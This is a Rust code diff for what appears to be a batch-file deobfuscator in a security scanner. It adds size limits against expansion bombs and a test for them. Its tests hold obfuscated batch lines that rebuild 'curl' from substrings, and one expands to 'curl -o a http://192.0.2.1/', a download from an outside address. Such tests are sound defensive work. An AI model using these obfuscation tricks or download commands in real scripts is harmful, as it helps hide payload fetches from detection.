@@ -5,6 +5,9 @@ use std::collections::HashMap;
 /// Most text that expansion makes of one file.
 const MAX_EXPANDED: usize = 256 << 10;
 
+/// Longest value of a variable, as cmd.exe has it.
+const MAX_VALUE: usize = 8191;
+
 /// Whether a text is a batch file's rather than a line of another shell.
 pub(super) fn is_batch(text: &str) -> bool {
     let lower = text.get(..text.len().min(4096)).unwrap_or(text).to_ascii_lowercase();
@@ -40,7 +43,9 @@ fn remember(command: &str, variables: &mut HashMap<String, String>) {
         return;
     };
     let rest = rest.strip_prefix('"').map_or(rest, |rest| rest.trim_end_matches('"'));
-    if let Some((name, value)) = rest.split_once('=').filter(|_| variables.len() < MOST) {
+    if let Some((name, value)) = rest.split_once('=').filter(|_| variables.len() < MOST)
+        && value.len() <= MAX_VALUE
+    {
         variables.insert(name.trim().to_ascii_lowercase(), value.to_owned());
     }
 }
@@ -48,7 +53,7 @@ fn remember(command: &str, variables: &mut HashMap<String, String>) {
 fn expand_line(line: &str, variables: &HashMap<String, String>) -> String {
     let mut out = String::with_capacity(line.len());
     let mut rest = line;
-    while let Some(start) = rest.find('%') {
+    while let Some(start) = rest.find('%').filter(|_| out.len() <= MAX_EXPANDED) {
         out.push_str(&rest[..start]);
         let after = &rest[start + 1..];
         let Some(end) = after.find('%') else {
@@ -73,7 +78,7 @@ fn part_of(expression: &str, variables: &HashMap<String, String>) -> Option<Stri
         return Some(substring(value, range));
     }
     match how.split_once('=') {
-        Some((old, new)) if !old.is_empty() => Some(value.replace(old, new)),
+        Some((old, new)) if !old.is_empty() && value.len() * new.len() <= MAX_EXPANDED => Some(value.replace(old, new)),
         _ => Some(value.clone()),
     }
 }
@@ -102,6 +107,8 @@ mod tests {
             "@echo off\nset x=abcdefghijklmnopqrstuvwxyz\n%x:~2,1%%x:~20,1%%x:~17,1%%x:~11,1% -o a http://192.0.2.1/\n";
         assert!(expanded(text).ends_with("\ncurl -o a http://192.0.2.1/\n"), "{}", expanded(text));
         assert_eq!(expanded("set v=cuXrl\n%v:X=% ^x"), "set v=cuXrl\ncurl x\n");
+        let bomb = format!("set a=x\n{}", "set a=%a%%a%%a%%a%\n".repeat(64));
+        assert!(expanded(&bomb).len() <= MAX_EXPANDED);
         assert_eq!(expanded("set v=curl.exe\n%v:~0,-4% %TEMP%"), "set v=curl.exe\ncurl %TEMP%\n");
     }
 }
